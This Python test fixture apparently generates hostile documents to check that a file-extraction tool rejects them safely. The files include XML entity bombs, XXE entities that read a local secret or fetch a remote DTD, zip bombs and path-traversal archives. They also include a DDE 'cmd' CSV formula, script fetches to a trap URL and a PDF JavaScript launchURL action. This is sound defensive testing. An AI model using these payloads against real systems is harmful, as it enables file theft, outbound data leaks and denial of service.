"""Documents made to harm those who open them, by file name, each with what must become of it.

A `Sentence` is a pattern that the reason for leaving the file out must match; a `Text` is words that its passages must
hold, because the rest of it is harmless.
"""

import base64
import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import Final

from tests.agent.sources.extract.files import make_pdf
from tests.agent.sources.extract.packages import (
    Parts,
    cell,
    chapter,
    docx_parts,
    epub_parts,
    odf_parts,
    packed,
    pptx_parts,
    relations,
    shape,
    words,
    xlsx_parts,
)

OWL: Final = "An owl hunts."
PLACE: Final = "PLACE"
"""Where an entity goes."""
SECRET: Final = "correct horse battery staple"
MB: Final = 1 << 20
_OLD: Final = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"

Bombs = Iterator[tuple[str, bytes, str]]
"""Name of the file, its bytes, and the pattern that its sentence or its text must match."""


@dataclass(frozen=True)
class Trap:
    """Where a document that could reach out would be noticed."""

    url: str
    """Of a server that must see no request."""
    secret: str
    """Path of a file that must not be read."""


def _sound() -> Mapping[str, Parts]:
    page = f"{OWL} {PLACE}"
    return {
        "docx": docx_parts(words(page)),
        "pptx": pptx_parts(shape(page)),
        "xlsx": xlsx_parts(f'<row r="1">{cell("A1", page)}</row>', shared=f"<si><t>{PLACE}</t></si>"),
        "odt": odf_parts("text", f"<text:p>{page}</text:p>"),
        "odp": odf_parts("presentation", f"<draw:page><text:p>{page}</text:p></draw:page>"),
        "ods": odf_parts(
            "spreadsheet",
            f"<table:table><table:table-row><table:table-cell><text:p>{page}</text:p></table:table-cell>"
            "</table:table-row></table:table>",
        ),
        "epub": epub_parts({"a.xhtml": chapter(f"<p>{page}</p>")}, head=f"<dc:title>{PLACE}</dc:title>"),
    }


SOUND: Final = _sound()
LAUGHS: Final = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "ha"}">' for n in range(12))
LONG: Final = f'<!ENTITY e11 "{"ha" * 50_000}">'
"""A single entity that is used very often."""
_PARTS: Final = {
    "docx": "word/document.xml",
    "pptx": "ppt/slides/slide0.xml",
    "xlsx": "xl/worksheets/sheet1.xml",
    "odt": "content.xml",
    "odp": "content.xml",
    "ods": "content.xml",
    "epub": "OEBPS/book.opf",
}
_ALSO: Final = {
    "docx": ("[Content_Types].xml", "_rels/.rels"),
    "pptx": ("ppt/presentation.xml", "ppt/_rels/presentation.xml.rels"),
    "xlsx": ("xl/sharedStrings.xml", "xl/workbook.xml"),
    "epub": ("META-INF/container.xml",),
}


def _with_dtd(parts: Parts, name: str, declared: str, use: str = "&e11;") -> bytes:
    """The package with a document type in one of its parts."""
    part = parts[name]
    assert isinstance(part, str)
    return packed({**parts, name: f"<!DOCTYPE x [{declared}]>{part.replace(PLACE, use)}"})


def entities(trap: Trap) -> Bombs:
    """Entities that grow, and entities that are files of this machine or of another."""
    for suffix, name in _PARTS.items():
        parts = SOUND[suffix]
        yield f"laughs.{suffix}", _with_dtd(parts, name, LAUGHS), "declares entities"
        yield f"quadratic.{suffix}", _with_dtd(parts, name, LONG, "&e11;" * 5000), "declares entities"
        local = f'<!ENTITY e SYSTEM "file://{trap.secret}">'
        yield f"xxe-file.{suffix}", _with_dtd(parts, name, local, "&e;"), "declares entities"
        remote = f'<!ENTITY % p SYSTEM "{trap.url}/dtd"> %p;'
        yield f"xxe-http.{suffix}", _with_dtd(parts, name, remote), "declares entities"
        part = f'<!DOCTYPE x PUBLIC "-//x" "{trap.url}/dtd">{parts[name]}'
        yield f"dtd-http.{suffix}", packed({**parts, name: part}), OWL
    for suffix, names in _ALSO.items():
        for number, name in enumerate(names):
            yield f"laughs-{number}.{suffix}", _with_dtd(SOUND[suffix], name, LAUGHS), "declares entities"
    outside = f'<!DOCTYPE html SYSTEM "{trap.url}/dtd" [<!ENTITY e SYSTEM "file://{trap.secret}">{LAUGHS}]>'
    page = f"{outside}<html><body><p>{OWL} &e; &e11;</p></body></html>"
    yield "xxe.epub", packed(epub_parts({"a.xhtml": page})), OWL
    yield "xxe.xhtml", page.encode(), OWL
    hidden = str(SOUND["docx"]["word/document.xml"]).replace(PLACE, "&e;")
    hidden = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{trap.secret}">]>{hidden}'
    for name, raw in {
        "utf-16": f'<?xml version="1.0" encoding="utf-16"?>{hidden}'.encode("utf-16"),
        "no-mark": f'<?xml version="1.0" encoding="utf-16le"?>{hidden}'.encode("utf-16-le"),
        "utf-7": b'<?xml version="1.0" encoding="utf-7"?>' + hidden.replace("<", "+ADw-").encode(),
        "ebcdic": f'<?xml version="1.0" encoding="cp037"?>{hidden}'.encode("cp037"),
    }.items():
        yield f"{name}.docx", packed({**SOUND["docx"], "word/document.xml": raw}), "declares entities|in no charset"


def _zip_of(*members: tuple[zipfile.ZipInfo, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for info, content in members:
            package.writestr(info, content)
    return out.getvalue()


def _claiming(raw: bytes, size: int) -> bytes:
    """The archive whose central directory says that every part unpacks to so many bytes."""
    start = raw.index(b"PK\x01\x02")
    parts = raw[start:].split(b"PK\x01\x02")[1:]
    return raw[:start] + b"".join(b"PK\x01\x02" + part[:20] + struct.pack("<I", size) + part[24:] for part in parts)


def _overlapping(raw: bytes) -> bytes:
    """The archive in which all parts are the first one."""
    start = raw.index(b"PK\x01\x02")
    parts = raw[start:].split(b"PK\x01\x02")[1:]
    return raw[:start] + b"".join(b"PK\x01\x02" + part[:38] + bytes(4) + part[42:] for part in parts)


def archives(trap: Trap) -> Bombs:
    """What is wrong with the ZIP file itself."""
    sound = SOUND["docx"]
    whole = packed(sound)
    bomb = packed({"a.txt": bytes(32 * MB)})
    for suffix, name in _PARTS.items():
        part = str(SOUND[suffix][name]).replace(PLACE, " " * (16 * MB))
        yield f"bomb.{suffix}", packed({**SOUND[suffix], name: part}), "times its size"
    yield "claims-4-gb.docx", _claiming(whole, 0xFFFFFFF0), "unpacks to more than"
    yield "claims-nothing.docx", _claiming(whole, 3), r"no readable \.docx file|declares|charset"
    yield "nested.docx", packed({**sound, "word/embeddings/a.zip": bomb, "word/media/b.zip": bomb}), OWL
    yield "overlapping.docx", _overlapping(whole), "overlap"
    yield "many.docx", packed({**sound, **{f"x/{n}": "" for n in range(20_000)}}, method=0), "more than 20,000 files"
    for name, path in {
        "up": "../../../evil.txt",
        "root": "/tmp/evil.txt",
        "back": "..\\evil.txt",
        "c": "C:\\a",
    }.items():
        yield f"traversal-{name}.docx", packed({**sound, path: SECRET}), "unpacked elsewhere"
    link = zipfile.ZipInfo("word/document.xml")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    yield "link.docx", _zip_of((link, trap.secret.encode())), "symbolic link"
    yield "lzma.docx", packed(sound, method=zipfile.ZIP_LZMA), "packed in a way"
    start = whole.index(b"PK\x01\x02")
    yield "password.docx", whole[: start + 8] + b"\1" + whole[start + 9 :], "encrypted with a password"
    yield "cut.docx", whole[: len(whole) // 2], "copy it again"
    yield "flipped.docx", whole[:60] + bytes([whole[60] ^ 0xFF]) + whole[61:], "copy it again"
    yield "no-document.docx", packed({"a.txt": OWL}), "holds no .docx document"
    yield "other.docx", packed(SOUND["xlsx"]), "rename it so that it ends in .xlsx"
    yield "old.docx", _OLD + bytes(512), "save it as .docx"
    yield "protected.xlsx", _OLD + "EncryptedPackage".encode("utf-16-le"), "save a copy without"
    yield "binary.xlsx", packed({"xl/workbook.bin": b"\0"}), "save it as .xlsx"
    for suffix in ("docx", "pptx", "xlsx", "odt", "epub", "rtf", "eml", "csv", "pdf"):
        yield f"empty.{suffix}", b"", "it is empty|holds no text|no .rtf file|not a readable PDF"
        yield f"zeros.{suffix}", bytes(4096), "it is no|zero bytes|not a readable PDF"


def office(trap: Trap) -> Bombs:
    """What Word, PowerPoint and Excel could be made to do."""
    deep = "<w:tbl><w:tr><w:tc>" * 20_000
    yield "deep.docx", packed(docx_parts(deep + words(OWL))), "copy it again"
    yield "closed-deep.docx", packed(docx_parts(deep + words(OWL) + "</w:tc></w:tr></w:tbl>" * 20_000)), "too deep"
    yield "million.docx", packed(docx_parts("<w:p/>" * 2_100_000)), "times its size|million elements"
    more = {
        "word/vbaProject.bin": _OLD,
        "word/embeddings/oleObject1.bin": _OLD,
        "word/fonts/font1.odttf": b"\0\1\0\0" + bytes(100),
        "word/_rels/document.xml.rels": relations(
            t=f"attachedTemplate {trap.url}/t.dotm", i=f"image file://{trap.secret}", c=f"aFChunk {trap.url}/chunk"
        ).replace("/>", ' TargetMode="External"/>'),
        "mammoth/style-map": "p => script",
    }
    picture = (
        '<w:p><w:r><w:drawing><a:graphic><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/'
        '2006/picture"><pic:blipFill><a:blip r:link="i"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></w:drawing>'
        '</w:r></w:p><w:altChunk r:id="c"/>'
    )
    yield "macros.docx", packed(docx_parts(words(OWL) + picture) | more), OWL
    field = f'<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;{trap.secret}&quot;"><w:r><w:t>{OWL}</w:t></w:r></w:fldSimple></w:p>'
    yield "field.docx", packed(docx_parts(field)), OWL
    slides = dict(pptx_parts(shape(OWL)))
    again = str(slides["ppt/presentation.xml"]).replace(
        '<p:sldId id="256" r:id="s0"/>', '<p:sldId r:id="s0"/>' * 50_000
    )
    yield "loop.pptx", packed({**slides, "ppt/presentation.xml": again}), OWL
    out = relations(s0="slide ../../../../../etc/passwd", s1="slide /etc/passwd", s2="slide slides/slide0.xml")
    listed = str(slides["ppt/presentation.xml"]).replace("/></p", '/><p:sldId r:id="s1"/><p:sldId r:id="s2"/></p')
    parts = {**slides, "ppt/presentation.xml": listed, "ppt/_rels/presentation.xml.rels": out}
    yield "outside.pptx", packed(parts), OWL
    yield "gone.pptx", packed({name: part for name, part in slides.items() if "slide0" not in name}), "holds no text"
    yield (
        "far.xlsx",
        packed(xlsx_parts(f'<row r="1">{cell("A1", OWL)}</row><row r="1048576">{cell("XFD1048576", "x")}</row>')),
        "claims 1,048,576 rows and 16,384 columns",
    )
    claimed = str(xlsx_parts(f'<row r="1">{cell("A1", OWL)}</row>')["xl/worksheets/sheet1.xml"])
    claimed = claimed.replace("<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>')
    yield "claims.xlsx", packed({**SOUND["xlsx"], "xl/worksheets/sheet1.xml": claimed}), OWL
    yield "rows.xlsx", packed(xlsx_parts(f"{'<row/>' * 600_000}<row>{cell('A1', OWL)}</row>")), OWL
    formula = f'<row r="1"><c r="A1"><f>WEBSERVICE("{trap.url}")</f></c>{cell("B1", OWL)}</row>'
    linked = {"xl/externalLinks/externalLink1.xml": f"<!DOCTYPE x SYSTEM '{trap.url}'><x/>", "xl/vbaProject.bin": _OLD}
    yield "formula.xlsx", packed(xlsx_parts(formula) | linked), OWL
    yield (
        "index.xlsx",
        packed(xlsx_parts('<row r="1"><c r="A1" t="s"><v>99999999</v></c></row>')),
        "holds no text|copy it again|reader died",
    )
    same = '<c t="s"><v>0</v></c>' * 5000
    bomb = xlsx_parts(f"<row>{same}</row>" * 20, shared=f"<si><t>{'ha' * 16_000}</t></si>")
    yield "shared.xlsx", packed(bomb), "more than 256 MB of text"
    yield "dde.csv", f"=cmd|'/C calc'!A0,{OWL}\n+1+1,@SUM(1)\n".encode(), OWL
    yield "field.csv", b'"' + b"x" * (2 * MB), "no table of text"
    yield "wide.csv", b"," * (6 * MB) + b"x\n", "million cells"


def open_documents(trap: Trap) -> Bombs:
    """What OpenDocument and books could be made to do."""
    many = 'table:number-columns-repeated="16384"'
    row = f'<table:table-row table:number-rows-repeated="1048576"><table:table-cell {many}><text:p>{OWL}</text:p></table:table-cell></table:table-row>'
    yield "repeated.ods", packed(odf_parts("spreadsheet", f"<table:table>{row}</table:table>")), "repeats a row"
    wide = row.replace("16384", "999999999999")
    yield "wide.ods", packed(odf_parts("spreadsheet", f"<table:table>{wide}</table:table>")), "repeats a cell"
    yield "spaces.odt", packed(odf_parts("text", f'<text:p>{OWL}<text:s text:c="999999999"/></text:p>')), OWL
    deep = "<text:list><text:list-item>" * 50_000
    yield "deep.odt", packed(odf_parts("text", deep)), "copy it again"
    locked = {"META-INF/manifest.xml": "<manifest><file-entry><encryption-data/></file-entry></manifest>"}
    yield "locked.odt", packed({**SOUND["odt"], **locked}), "encrypted with a password"
    linked = (
        f'<text:p>{OWL}<draw:frame><draw:image xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{trap.url}/i"/>'
        f'<draw:object xlink:href="file://{trap.secret}" xmlns:xlink="http://www.w3.org/1999/xlink"/></draw:frame></text:p>'
    )
    scripts = {"Basic/Standard/Module1.xml": f"<!DOCTYPE x SYSTEM '{trap.url}'><x/>", "Scripts/python/a.py": "boom"}
    yield "linked.odt", packed({**odf_parts("text", linked), **scripts}), OWL
    active = (
        f"<script>fetch('{trap.url}')</script><p onclick='x()'>{OWL}</p><img src='{trap.url}/i'/><iframe src='{trap.url}'/>"
        f"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'><script>x()</script><text>no</text></svg>"
        f"<link rel='stylesheet' href='{trap.url}/c'/><object data='file://{trap.secret}'/>"
    )
    yield "active.epub", packed(epub_parts({"a.xhtml": chapter(active)})), OWL
    yield "active.html", chapter(active + f"<p>{OWL} It is never seen by day.</p>").encode(), OWL
    links = "".join(f"<li><a href='/{number}'>Owl {number}</a></li>" for number in range(20_000))
    yield "articles.html", f"{'<article>' * 200}<p>{OWL}</p><ul>{links}</ul>{'</article>' * 200}".encode(), OWL
    message = f"Subject: owls\nContent-Type: text/html\n\n{active}"
    yield "active.eml", message.encode(), OWL
    book = {"a.xhtml": chapter(f"<p>{OWL}</p>")}
    yield "loop.epub", packed(epub_parts(book, spine=["a.xhtml"] * 50_000)), OWL
    yield "gone.epub", packed(epub_parts(book, spine=["b.xhtml", "c.xhtml"])), "none of the chapters"
    itself = dict(epub_parts(book))
    itself["META-INF/container.xml"] = str(itself["META-INF/container.xml"]).replace(
        "OEBPS/book.opf", "META-INF/container.xml"
    )
    yield "itself.epub", packed(itself), "none of the chapters"
    for name, href in {
        "far": f"{trap.url}/a.xhtml",
        "up": "../../../../../etc/passwd",
        "file": f"file://{trap.secret}",
    }.items():
        opf = str(epub_parts(book)["OEBPS/book.opf"]).replace('href="a.xhtml"', f'href="{href}"')
        yield f"{name}.epub", packed({**epub_parts(book), "OEBPS/book.opf": opf}), "none of the chapters"
    drm = {"META-INF/encryption.xml": '<e xmlns="x"><CipherReference URI="OEBPS/a.xhtml"/></e>'}
    yield "drm.epub", packed({**epub_parts(book), **drm}), "DRM"
    yield "deep.epub", packed(epub_parts({"a.xhtml": chapter("<div>" * 100_000 + OWL)})), f"{OWL}|holds no text"


def texts(trap: Trap) -> Bombs:
    """What rich text and messages could be made to do."""
    yield "deep.rtf", b"{\\rtf1 " + OWL.encode() + b"{" * 200_000, OWL
    yield "closed.rtf", b"{\\rtf1 " + b"}" * 200_000, "holds no text"
    yield "binary.rtf", b"{\\rtf1 " + OWL.encode() + b"{\\pict\\bin999999999 " + b"x" * 1000 + b"}}", OWL
    yield (
        "object.rtf",
        b"{\\rtf1{\\object\\objdata "
        + b"d0cf11e0" * 1000
        + b"}{\\*\\template "
        + trap.url.encode()
        + b"}"
        + OWL.encode()
        + b"}",
        OWL,
    )
    field = f'{{\\field{{\\*\\fldinst INCLUDEPICTURE "{trap.url}/p" \\\\d}}{{\\fldrslt {OWL}}}}}'
    yield "field.rtf", f"{{\\rtf1 {field}}}".encode(), OWL
    yield (
        "numbers.rtf",
        b"{\\rtf1\\uc-99999\\u99999999 \\ansicpg99999\\bin \\outlinelevel8 " + OWL.encode() + b"}",
        f"{OWL}|copy it again",
    )
    head = "Subject: owls\nContent-Type: multipart/mixed; boundary=b0\n\n"
    nested = "".join(f"--b{n}\nContent-Type: multipart/mixed; boundary=b{n + 1}\n\n" for n in range(1000))
    yield "nested.eml", (head + nested).encode(), "parts"
    yield "parts.eml", (head + "--b0\nContent-Type: text/plain\n\nx\n" * 100_000).encode(), "more than 1,000 parts"
    letters = "Subject: x\nContent-Type: message/rfc822\n\n" * 900
    yield "letters.eml", letters.encode() + OWL.encode(), "too deep|Attachments|holds no text"
    coded = base64.encodebytes(bytes(8 * MB))
    plain = b"Subject: owls\nContent-Transfer-Encoding: base64\n\n"
    yield "zeros-in-code.eml", plain + coded, "holds no text"
    yield "headers.eml", b"Subject: " + b"=?utf-8?q?owl?= " * 200_000 + b"\n\n" + OWL.encode(), OWL
    yield "many-headers.eml", b"X-A: b\n" * 300_000 + b"\n" + OWL.encode(), OWL
    yield "charset.eml", b"Subject: =?zlib?b?eJw=?=\nContent-Type: text/plain; charset=zlib\n\n" + OWL.encode(), OWL
    named = f'Subject: x\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\n{OWL}\n--b\nContent-Type: application/zip\nContent-Disposition: attachment; filename="../../../etc/evil"\n\nPK\n--b--\n'
    yield "named.eml", named.encode(), OWL


def pdfs(trap: Trap) -> Bombs:
    """What a PDF could be made to do."""
    sound = make_pdf([OWL])
    action = f"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.launchURL('{trap.url}')) >>".encode()
    yield "script.pdf", sound.replace(b"/Type /Catalog", action), OWL
    yield (
        "font.pdf",
        sound.replace(b"/Type1 /BaseFont /Helvetica", b"/Type0 /DescendantFonts [3 0 R] /ToUnicode 3 0 R"),
        "",
    )
    yield "pages.pdf", sound.replace(b"/Kids [4 0 R]", b"/Kids [2 0 R]"), "PDF|no text|none of its pages|died|took"
    yield "previous.pdf", sound.replace(b"trailer << ", b"trailer << /Prev %d " % sound.rindex(b"xref\n0")), ""
    filled = zlib.compress(bytes(200 * MB), 9)
    stream = b"<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(filled) + filled
    start, end = sound.index(b"<< /Length"), sound.index(b"endstream")
    yield "bomb.pdf", sound[:start] + stream + b"\n" + sound[end:], ""
    yield "array.pdf", sound.replace(b"/MediaBox [0 0 612 792]", b"/MediaBox " + b"[" * 50_000), ""


def hostile(trap: Trap) -> dict[str, tuple[bytes, str]]:
    """All of them by name."""
    every = (entities, archives, office, open_documents, texts, pdfs)
    return {name: (raw, expected) for bombs in every for name, raw, expected in bombs(trap)}
